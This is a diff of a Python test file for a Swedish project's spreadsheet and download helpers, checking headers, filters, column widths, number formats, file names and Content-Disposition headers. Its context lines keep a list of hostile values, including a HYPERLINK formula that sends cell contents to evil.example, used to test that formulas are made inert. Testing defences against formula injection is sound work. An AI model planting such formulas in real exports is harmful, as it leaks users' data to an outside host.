@@ -9,7 +9,17 @@ from pathlib import Path
 
 from openpyxl import Workbook, load_workbook
 
-from grannar.core.spreadsheets import csv_bytes, inert, workbook_bytes
+from grannar.core.downloads import attachment, file_name
+from grannar.core.spreadsheets import (
+    DATE,
+    MONEY,
+    PERCENT,
+    Column,
+    Spreadsheet,
+    csv_bytes,
+    inert,
+    workbook_bytes,
+)
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&B2,"Klicka")',
@@ -69,3 +79,78 @@ def test_every_spreadsheet_is_written_through_core_spreadsheets():
         if makes_book or csv_writer.search(text) or re.search(r"book\.save\(", text):
             offenders.append(str(path.relative_to(ROOT)))
     assert offenders == []
+
+
+def test_every_sheet_gets_a_frozen_filtered_bold_header_and_fitting_widths():
+    book = Workbook()
+    book.active.append(["Namn", "Kommun"])
+    book.active.append(["Anna Andersson-Lindqvist", "Göteborg"])
+    book.active.append(["Bo", "x" * 200])
+    book.create_sheet("Tom")
+    read = load_workbook(io.BytesIO(workbook_bytes(book)))
+    sheet = read.worksheets[0]
+    assert sheet.freeze_panes == "A2"
+    assert sheet.auto_filter.ref == "A1:B3"
+    assert sheet["A1"].font.bold
+    assert sheet["B1"].font.bold
+    assert not sheet["A2"].font.bold
+    assert sheet.column_dimensions["A"].width == len("Anna Andersson-Lindqvist") + 3
+    assert sheet.column_dimensions["B"].width == 60  # a long cell wraps the view at a limit
+    empty = read.worksheets[1]
+    assert empty.auto_filter.ref is None
+
+
+def test_a_spreadsheet_says_what_it_is_and_formats_its_numbers():
+    book = Spreadsheet(
+        title="Medfinansiering",
+        programme="Nya GRannar (nya-grannar)",
+        period="2026-12",
+        made_by="Anna Admin",
+    )
+    book.note("Saknas", 3)
+    sheet = book.sheet(
+        "Data",
+        [Column("Dag", DATE), Column("Andel", PERCENT), Column("Belopp", MONEY), Column("Text")],
+    )
+    sheet.append([dt.date(2026, 12, 1), 0.157, Decimal("1234567"), "=1+1"])
+    read = load_workbook(io.BytesIO(book.xlsx()))
+    about = read.worksheets[0]
+    assert about.title == "Om filen"
+    rows = dict(about.iter_rows(min_row=2, values_only=True))
+    assert rows["Rapport"] == "Medfinansiering"
+    assert rows["Program"] == "Nya GRannar (nya-grannar)"
+    assert rows["Period"] == "2026-12"
+    assert rows["Skapad av"] == "Anna Admin"
+    assert isinstance(rows["Skapad"], dt.datetime)
+    assert rows["Saknas"] == 3
+    data = read["Data"]
+    day, share, amount, text = data[2]
+    assert (day.number_format, share.number_format, amount.number_format) == (DATE, PERCENT, MONEY)
+    assert (share.data_type, amount.data_type) == ("n", "n")
+    assert (share.value, amount.value) == (0.157, 1234567)
+    assert text.value == "'=1+1"
+    assert text.number_format == "General"
+    # "1,234,567 kr" is 12 characters, plus room for the filter button.
+    assert data.column_dimensions["C"].width == 15
+    for sheet in read.worksheets:
+        assert sheet.freeze_panes == "A2"
+        assert (
+            sheet.auto_filter.ref
+            == f"A1:{sheet.cell(1, sheet.max_column).column_letter}{sheet.max_row}"
+        )
+
+
+def test_file_names_are_lower_case_words_joined_by_hyphens():
+    assert file_name("Närvaro", "nya-grannar", dt.date(2026, 12, 2), extension="xlsx") == (
+        "närvaro-nya-grannar-2026-12-02.xlsx"
+    )
+    assert file_name("a/b", "", "c d..e", extension="pdf") == "a-b-c-d-e.pdf"
+
+
+def test_a_download_has_an_ascii_name_and_the_real_one_for_modern_programs():
+    response = attachment(b"x", filename="närvaro-2026.xlsx", content_type="text/plain")
+    assert response["Content-Disposition"] == (
+        "attachment; filename=\"narvaro-2026.xlsx\"; filename*=UTF-8''n%C3%A4rvaro-2026.xlsx"
+    )
+    plain = attachment(b"x", filename="deltagare-2026.xlsx", content_type="text/plain")
+    assert plain["Content-Disposition"] == 'attachment; filename="deltagare-2026.xlsx"'
